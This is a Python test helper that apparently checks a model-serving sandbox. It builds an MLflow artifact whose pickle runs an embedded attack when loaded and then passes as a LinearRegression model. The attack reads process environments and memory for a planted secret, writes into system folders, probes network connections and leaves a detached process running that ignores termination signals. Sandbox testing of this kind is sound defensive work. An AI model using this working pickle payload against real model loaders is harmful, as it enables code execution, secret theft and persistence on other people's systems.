"""A model that attacks whatever loads it: by a real pickle, which attempts all of it and says what it won."""

from __future__ import annotations

import pickle
import sys
import time
from collections.abc import Mapping
from pathlib import Path
from typing import Any

SECRET = "hunter2-of-the-daemon"
MLMODEL = """
flavors:
  python_function: {loader_module: mlflow.sklearn, model_path: model.pkl, predict_fn: predict, python_version: "3"}
  sklearn: {pickled_model: model.pkl, serialization_format: cloudpickle, sklearn_version: "1"}
"""
ATTACK = """
import glob, os, signal, socket
won = []
def attempt(name, act):
    try:
        if act(): won.append(name)
    except OSError: pass
def holds_secret(path):
    with open(path, "rb") as file: return SECRET in file.read(1 << 20)
def read_memory(pid):
    lines = open(f"/proc/{pid}/maps").read().splitlines()
    start = next((int(line.split("-")[0], 16) for line in lines if "[stack]" in line), 0)
    with open(f"/proc/{pid}/mem", "rb") as file:
        file.seek(start)
        return True
for each in [str(os.getppid()), *(path.split("/")[2] for path in glob.glob("/proc/[0-9]*/stat"))]:
    attempt("an environment", lambda: holds_secret(f"/proc/{each}/environ"))
    if int(each) not in (0, 1, os.getpid()):
        attempt("a memory", lambda: read_memory(each))
for path in PATHS:
    attempt("written " + path, lambda: open(path, "ab").write(b"x"))
    attempt("read " + path, lambda: path.endswith(".db") and open(path, "rb").read(1))
for folder in FOLDERS:
    attempt("left a file in " + folder, lambda: open(os.path.join(folder, MARK), "w"))
for address in ADDRESSES:
    attempt("network", lambda: socket.create_connection(tuple(address), 5))
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        os.execvp("sleep", ["sleep", MARK])
    os._exit(0)
os.wait()
if won: raise ValueError("won " + ", ".join(sorted(set(won))))
"""


class Bomb:
    """What runs code where it is unpickled, and is a model then."""

    def __init__(self, code: str) -> None:
        """`code`: what runs."""
        self._code = code

    def __reduce__(self) -> Any:
        """As pickle has it: called where it is loaded."""
        model = "__import__('sklearn.linear_model').linear_model.LinearRegression()"
        return eval, (f"exec({self._code!r}, {{}}) or {model}",)


FOLDERS = ["/mnt", "/var/tmp", "/usr/lib", "/etc", sys.prefix, "/"]  # none of them may take a file


def build_attack(
    folder: Path,
    mark: str,
    addresses: list[tuple[str, int]],
    paths: list[str],
    folders: list[str] = FOLDERS,
    secret: str = SECRET,
) -> Path:
    """An artifact whose pickle attempts all of it."""
    artifact = folder / "artifact"
    artifact.mkdir()
    values: Mapping[str, Any] = {
        "SECRET": secret.encode(),
        "MARK": mark,
        "ADDRESSES": addresses,
        "PATHS": paths,
        "FOLDERS": [*folders, str(Path.cwd())],
    }
    code = "\n".join(f"{name} = {value!r}" for name, value in values.items()) + ATTACK
    (artifact / "MLmodel").write_text(MLMODEL)
    (artifact / "model.pkl").write_bytes(pickle.dumps(Bomb(code)))
    return artifact


def is_left(mark: str) -> bool:
    """Whether a process sleeps those seconds. One that was killed takes a moment to go."""
    deadline = time.monotonic() + 30
    while there := any(mark in read_command(entry) for entry in Path("/proc").glob("[0-9]*")):
        if time.monotonic() > deadline:
            break
        time.sleep(0.05)
    return there


def read_command(entry: Path) -> str:
    """The command line of a process; empty where it is gone."""
    try:
        return (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
    except OSError:
        return ""
